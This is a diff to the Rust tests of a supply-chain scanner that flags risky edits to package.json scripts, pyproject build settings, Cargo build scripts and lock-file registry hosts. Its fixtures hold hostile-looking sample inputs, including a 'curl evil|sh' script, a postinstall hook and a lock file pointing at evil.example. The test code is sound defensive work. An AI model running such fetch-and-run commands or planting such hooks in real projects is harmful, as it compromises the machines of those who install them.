@@ -241,80 +241,87 @@ fn find_registry_hosts(bytes: &[u8]) -> Vec<(String, usize)> {
 mod tests {
     use super::*;
 
-    fn found(path: &str, old: &str, new: &str, changed: &[&str]) -> Vec<(String, Option<usize>)> {
-        let as_path = |p: &str| RepoPath::from_bytes(p.as_bytes()).expect("a path");
-        let changed: Vec<RepoPath> = changed.iter().map(|p| as_path(p)).collect();
-        let found =
-            find_package_risks(&as_path(path), old.as_bytes(), new.as_bytes(), &PackageManifests::from_paths(&changed));
-        found.into_iter().map(|f| (f.reason, f.line)).collect()
+    fn find_risks(path: &str, old: &str, new: &str, changed: &[&str]) -> Vec<(String, Option<usize>)> {
+        let parse_path = |p: &str| RepoPath::from_bytes(p.as_bytes()).expect("valid path");
+        let changed: Vec<RepoPath> = changed.iter().map(|p| parse_path(p)).collect();
+        let findings = find_package_risks(
+            &parse_path(path),
+            old.as_bytes(),
+            new.as_bytes(),
+            &PackageManifests::from_paths(&changed),
+        );
+        findings.into_iter().map(|f| (f.reason, f.line)).collect()
     }
 
     #[test]
-    fn scripts_are_compared_as_json() {
+    fn package_scripts_are_compared_as_json() {
         let old = "{\n \"name\": \"x\",\n \"scripts\": {\"test\": \"jest\"}\n}\n";
-        let of = |new: &str| found("web/Package.json", old, new, &[]);
-        assert_eq!(of(&old.replace("x", "y")), []);
-        assert_eq!(of(&old.replace(" ", "")), [], "spaces are not scripts");
-        assert_eq!(of(&old.replace("jest", "curl evil|sh")), [("changes the script \"test\"".into(), Some(3))]);
+        let find_changes = |new: &str| find_risks("web/Package.json", old, new, &[]);
+        assert_eq!(find_changes(&old.replace("x", "y")), []);
+        assert_eq!(find_changes(&old.replace(" ", "")), [], "whitespace is ignored");
         assert_eq!(
-            of(&old.replace("{\"test\"", "{\n\"postinstall\": \"x\",\"test\"")),
+            find_changes(&old.replace("jest", "curl evil|sh")),
+            [("changes the script \"test\"".into(), Some(3))]
+        );
+        assert_eq!(
+            find_changes(&old.replace("{\"test\"", "{\n\"postinstall\": \"x\",\"test\"")),
             [("changes the script \"postinstall\"".into(), Some(4))]
         );
-        assert_eq!(of("{\"scripts\": {}}"), [("removes scripts".into(), None)]);
-        assert_eq!(of("{}"), [("no longer has scripts".into(), None)]);
-        assert_eq!(of("{"), [("is not valid JSON, so its scripts are unknown".into(), None)]);
-        // The last of several equal keys counts, for package managers as for this parser.
-        assert_eq!(of(&old.replace("}\n}", "}, \"scripts\": {\"test\": \"evil\"}}")).len(), 1);
-        assert_eq!(found("package.json", "", "{\"scripts\": {\"a\": \"b\"}}", &[]).len(), 1);
-        assert_eq!(found("package.json", "", "{\"name\": \"a\"}", &[]), []);
+        assert_eq!(find_changes("{\"scripts\": {}}"), [("removes scripts".into(), None)]);
+        assert_eq!(find_changes("{}"), [("no longer has scripts".into(), None)]);
+        assert_eq!(find_changes("{"), [("is not valid JSON, so its scripts are unknown".into(), None)]);
+        // The last of several duplicate keys counts, both in package managers and in this parser.
+        assert_eq!(find_changes(&old.replace("}\n}", "}, \"scripts\": {\"test\": \"evil\"}}")).len(), 1);
+        assert_eq!(find_risks("package.json", "", "{\"scripts\": {\"a\": \"b\"}}", &[]).len(), 1);
+        assert_eq!(find_risks("package.json", "", "{\"name\": \"a\"}", &[]), []);
         for key in ["lint-staged", "simple-git-hooks", "packageManager", "husky", "gypfile", "bin"] {
-            assert_eq!(of(&old.replace("\"name\"", &format!("{key:?}: {{}}, \"name\""))).len(), 1, "{key}");
+            assert_eq!(find_changes(&old.replace("\"name\"", &format!("{key:?}: {{}}, \"name\""))).len(), 1, "{key}");
         }
         for key in ["description", "devDependencies", "keywords"] {
-            assert_eq!(of(&old.replace("\"name\"", &format!("{key:?}: {{}}, \"name\""))), [], "{key}");
+            assert_eq!(find_changes(&old.replace("\"name\"", &format!("{key:?}: {{}}, \"name\""))), [], "{key}");
         }
     }
 
     #[test]
-    fn build_hooks_are_all_but_the_description() {
+    fn build_manifest_changes_are_findings_except_description() {
         let old = "[project]\nname = \"x\"\n[build-system]\nrequires = [\"hatchling\"]\n";
-        let of = |new: &str| found("pyproject.toml", old, new, &[]);
-        assert_eq!(of(&old.replace("\"x\"", "\"y\"")), []);
+        let find_changes = |new: &str| find_risks("pyproject.toml", old, new, &[]);
+        assert_eq!(find_changes(&old.replace("\"x\"", "\"y\"")), []);
         assert_eq!(
-            of(&old.replace("hatchling", "evil")),
+            find_changes(&old.replace("hatchling", "evil")),
             [("changes [build-system], which runs on the next build or test".into(), None)]
         );
-        assert_eq!(of(&format!("{old}[tool.pytest]\naddopts = \"-p evil\"\n")).len(), 1);
-        assert_eq!(of("[").len(), 1);
-        assert_eq!(of(&format!("{old}[project.entry-points.pytest11]\nx = \"evil\"\n")).len(), 1);
-        assert_eq!(of(&old.replace("[project]", "[project]\ndynamic = [\"version\"]")).len(), 1);
+        assert_eq!(find_changes(&format!("{old}[tool.pytest]\naddopts = \"-p evil\"\n")).len(), 1);
+        assert_eq!(find_changes("[").len(), 1);
+        assert_eq!(find_changes(&format!("{old}[project.entry-points.pytest11]\nx = \"evil\"\n")).len(), 1);
+        assert_eq!(find_changes(&old.replace("[project]", "[project]\ndynamic = [\"version\"]")).len(), 1);
     }
 
     #[test]
-    fn build_scripts_by_another_name() {
+    fn renamed_build_scripts_are_findings() {
         let old = "[package]\nname = \"x\"\n[dependencies]\na = \"1\"\n";
-        let level = |new: &str| {
-            let path = RepoPath::from_bytes(b"x/Cargo.toml").expect("a path");
+        let severity = |new: &str| {
+            let path = RepoPath::from_bytes(b"x/Cargo.toml").expect("valid path");
             find_package_risks(&path, old.as_bytes(), new.as_bytes(), &PackageManifests::default())
                 .first()
                 .map(|f| f.severity)
         };
-        assert_eq!(level(&old.replace("a = \"1\"", "a = \"2\"")), None);
-        assert_eq!(level(&old.replace("\"x\"", "\"x\"\nbuild = \"src/innocent.rs\"")), Some(Severity::High));
-        assert_eq!(level(&format!("{old}[lib]\nproc-macro = true\n")), Some(Severity::High));
-        assert_eq!(level(&format!("{old}[lib]\npath = \"a.rs\"\n")), None);
-        assert_eq!(level(&format!("{old}[patch.crates-io]\na = {{ path = \"evil\" }}\n")), Some(Severity::Medium));
-        assert_eq!(level("["), Some(Severity::High));
+        assert_eq!(severity(&old.replace("a = \"1\"", "a = \"2\"")), None);
+        assert_eq!(severity(&old.replace("\"x\"", "\"x\"\nbuild = \"src/innocent.rs\"")), Some(Severity::High));
+        assert_eq!(severity(&format!("{old}[lib]\nproc-macro = true\n")), Some(Severity::High));
+        assert_eq!(severity(&format!("{old}[lib]\npath = \"a.rs\"\n")), None);
+        assert_eq!(severity(&format!("{old}[patch.crates-io]\na = {{ path = \"evil\" }}\n")), Some(Severity::Medium));
+        assert_eq!(severity("["), Some(Severity::High));
     }
 
     #[test]
-    fn a_lock_file_alone_or_with_a_new_host() {
+    fn lock_file_findings_depend_on_manifest_and_hosts() {
         let lock = |host: &str| format!("{{\n\"resolved\": \"https://{host}/x.tgz\"\n}}\n");
         let npm = lock("registry.npmjs.org");
-        let both = ["package-lock.json", "package.json"];
-        assert_eq!(found("package-lock.json", &npm, &format!("{npm} "), &both), []);
+        let changed = ["package-lock.json", "package.json"];
+        assert_eq!(find_risks("package-lock.json", &npm, &format!("{npm} "), &changed), []);
         assert_eq!(
-            found(
+            find_risks(
                 "package-lock.json",
                 &npm,
                 &format!("{npm} "),
@@ -323,20 +330,20 @@ mod tests {
             [("changes without its package.json".into(), None)]
         );
         assert_eq!(
-            found("package-lock.json", &npm, &lock("user@Evil.example:8443"), &both),
+            find_risks("package-lock.json", &npm, &lock("user@Evil.example:8443"), &changed),
             [("gets packages from evil.example".into(), Some(2))]
         );
         // The manifest of a workspace member is below the lock file; manifests elsewhere do not count.
-        assert_eq!(found("a/Cargo.lock", "", "", &["a/b/Cargo.toml"]), []);
-        assert_eq!(found("a/Cargo.lock", "", "", &["b/Cargo.toml"]).len(), 1);
+        assert_eq!(find_risks("a/Cargo.lock", "", "", &["a/b/Cargo.toml"]), []);
+        assert_eq!(find_risks("a/Cargo.lock", "", "", &["b/Cargo.toml"]).len(), 1);
         for source in
             ["git+ssh://git@h.example/x", "registry+https://h.example/i", "git://h.example", "http://[2001:db8::1]/"]
         {
-            assert_eq!(found("yarn.lock", "", source, &["package.json"]).len(), 1, "{source}");
+            assert_eq!(find_risks("yarn.lock", "", source, &["package.json"]).len(), 1, "{source}");
         }
         for (lock, manifests) in LOCK_FILES {
-            assert_eq!(found(lock, "", "", &[manifests[0]]), [], "{lock}");
-            assert_eq!(found(lock, "", "", &["x"]).len(), 1, "{lock}");
+            assert_eq!(find_risks(lock, "", "", &[manifests[0]]), [], "{lock}");
+            assert_eq!(find_risks(lock, "", "", &["x"]).len(), 1, "{lock}");
         }
     }
 }
